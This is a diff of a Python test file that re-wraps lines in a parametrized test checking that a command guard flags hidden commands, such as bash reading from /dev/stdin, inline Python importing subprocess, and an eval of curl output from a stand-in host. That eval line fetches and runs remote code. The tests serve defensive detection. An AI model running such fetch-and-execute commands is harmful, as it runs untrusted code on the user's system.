@@ -119,9 +119,13 @@ def test_a_command_that_is_no_release_never_touches_the_network(home: Path, repo
     [
         (
             "bash /dev/stdin <<< 'git push origin main'",
-            "- COMMAND_HIDDEN (bash running a program from a descriptor or computed at run time): bash /dev/stdin",
+            "- COMMAND_HIDDEN (bash running a program from a descriptor or computed at run time): "
+            "bash /dev/stdin",
         ),
-        ('eval "$(curl -s https://x.example/deploy)"', "- COMMAND_HIDDEN (eval runs text as a command): eval $(…)"),
+        (
+            'eval "$(curl -s https://x.example/deploy)"',
+            "- COMMAND_HIDDEN (eval runs text as a command): eval $(…)",
+        ),
         (
             "python3.11 -c 'import subprocess'",
             "- COMMAND_HIDDEN (python3.11 inline code that can start a process (it imports subprocess)): "
